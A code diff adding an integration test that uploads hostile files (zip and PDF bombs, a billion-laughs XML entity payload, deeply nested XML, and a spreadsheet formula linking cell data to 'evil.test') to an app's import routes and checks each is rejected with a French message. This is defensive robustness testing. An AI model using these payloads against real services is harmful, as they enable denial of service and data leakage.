@@ -9,7 +9,10 @@
 import { Worker } from 'node:worker_threads';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import '../test/provided.ts';
-import { bombXlsx, hugeCellXlsx, millionRowsCsv, millionRowsXlsx } from '../test/hostile-tables.ts';
+import { openDatabase, type Database } from '../db/database.ts';
+import { ciiXml, pdfBomb } from '../test/invoices.ts';
+import { bombXlsx, hugeCellXlsx, millionRowsCsv, millionRowsXlsx, workbook, zip } from '../test/hostile-tables.ts';
+import { countOwnedRows } from './support/db-state.ts';
 import { client, signUp, type Client } from './support/http.ts';
 import { createScratchDatabase, type ScratchDatabase } from './support/postgres-cluster.ts';
 import { freePort } from './support/ports.ts';
@@ -19,6 +22,7 @@ import { newAuthSecret, startServer, type ServerProcess } from './support/server
 let scratch: ScratchDatabase | undefined;
 let server: ServerProcess | undefined;
 let api: Client;
+let database: Database | undefined;
 
 beforeAll(async () => {
   scratch = await createScratchDatabase(inject('postgresAdminUrl'), {
@@ -34,9 +38,11 @@ beforeAll(async () => {
     env: () => ({ DATABASE_URL: scratch!.url, BETTER_AUTH_SECRET: secret, PUBLIC_ORIGIN: origin }),
   });
   api = client(server.url, origin);
+  database = await openDatabase({ databaseUrl: scratch.url, maxConnections: 2 });
 });
 
 afterAll(async () => {
+  await database?.close();
   await server?.stop();
   await scratch?.drop();
 });
@@ -124,5 +130,100 @@ describe('hostile spreadsheets read off the event loop', () => {
     expect(p99(health)).toBeLessThan(50 + p99(quiet));
     // Two files read at once, each thread's heap capped at 256 MB: far from the 1.43 GB of one file read whole.
     expect(rssPeak - rssBefore).toBeLessThan(600 * 1024 * 1024);
+  });
+
+  it('every import route, every hostile file: never a 5xx, a French message next to « file », nothing stored', async (context) => {
+    const [owner] = [await signUp(api)];
+    const row = (r: number, cells: string) => `<row r="${r}">${cells}</row>`;
+    const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
+    const bytes = (text: string) => new Uint8Array(Buffer.from(text));
+    const files: { label: string; bytes: Uint8Array<ArrayBuffer>; type: string }[] = [
+      { label: 'bombe zip', bytes: await bombXlsx(), type: XLSX },
+      { label: '1 000 000 lignes XLSX', bytes: await millionRowsXlsx(), type: XLSX },
+      { label: '1 000 000 lignes CSV', bytes: millionRowsCsv(), type: 'text/csv' },
+      { label: 'cellule de 20 Mo', bytes: await hugeCellXlsx(20), type: XLSX },
+      {
+        label: 'XML imbriqué 200 000 niveaux dans une ligne',
+        bytes: await workbook(() => [row(1, inline('A1', 'Nom')), `<row r="2">${'<x>'.repeat(200_000)}`], null),
+        type: XLSX,
+      },
+      {
+        label: 'XML imbriqué 100 000 niveaux (facture)',
+        bytes: bytes(`<?xml version="1.0"?><Invoice>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</Invoice>`),
+        type: 'application/xml',
+      },
+      {
+        label: 'milliard de rires (DOCTYPE)',
+        bytes: bytes(
+          `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'b'.repeat(i + 1)} "${'&a;'.repeat(10)}">`).join('')}]><Invoice>&bbbbbbbbb;</Invoice>`,
+        ),
+        type: 'application/xml',
+      },
+      {
+        label: 'formules sans résultat',
+        bytes: await workbook(
+          () => [
+            row(1, inline('A1', 'Nom') + inline('B1', 'recette') + inline('C1', 'date') + inline('D1', 'quantite')),
+            row(2, '<c r="A2"><f>HYPERLINK("http://evil.test/?x="&amp;A1,"clic")</f></c><c r="B2"><f>1/0</f></c>'),
+          ],
+          null,
+        ),
+        type: XLSX,
+      },
+      {
+        label: 'octets aléatoires en XLSX',
+        bytes: new Uint8Array(crypto.getRandomValues(new Uint8Array(65_536))),
+        type: XLSX,
+      },
+      {
+        label: 'zip sans classeur',
+        bytes: await zip([{ name: 'a.txt', chunks: () => ['bonjour'] }]),
+        type: XLSX,
+      },
+      {
+        label: 'UTF-16 sans BOM',
+        bytes: new Uint8Array(Buffer.from('Nom;Prix\nSel;1\n', 'utf16le')),
+        type: 'text/csv',
+      },
+      {
+        label: 'NUL et octets invalides',
+        bytes: new Uint8Array([0x4e, 0x6f, 0x6d, 0x0a, 0, 0xff, 0xfe, 0xc3, 0x28, 0x0a]),
+        type: 'text/csv',
+      },
+      { label: 'PDF bombe', bytes: new Uint8Array(await pdfBomb(300)), type: 'application/pdf' },
+      {
+        label: 'facture tronquée',
+        bytes: bytes(ciiXml({ number: 'T-1', date: '2026-03-01', lines: [] }).slice(0, 400)),
+        type: 'application/xml',
+      },
+    ];
+    const routes = [
+      '/api/files/products/preview',
+      '/api/files/products/import',
+      '/api/files/recipes/preview',
+      '/api/files/recipes/import',
+      '/api/sales/import',
+      '/api/purchases/invoices',
+    ];
+    const before = await countOwnedRows(database!.db);
+    const statuses = new Map<number, number>();
+    for (const route of routes)
+      for (const file of files) {
+        const res = await api('POST', route, {
+          cookie: owner.cookie,
+          body: file.bytes,
+          headers: { 'content-type': file.type },
+          timeoutMs: 60_000,
+        });
+        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
+        expect(res.status, `${route} ${file.label}: ${res.text.slice(0, 300)}`).toBe(422);
+        expect(res.body.error.fields.file, `${route} ${file.label}`).toMatch(/^[A-ZÀ-Ü]/);
+        expect(res.text.length).toBeLessThan(2_000);
+      }
+    expect(await countOwnedRows(database!.db)).toEqual(before);
+    report(
+      context,
+      `${routes.length * files.length} hostile uploads: ${[...statuses].map(([s, n]) => `${n} × ${s}`).join(', ')}`,
+    );
   });
 });
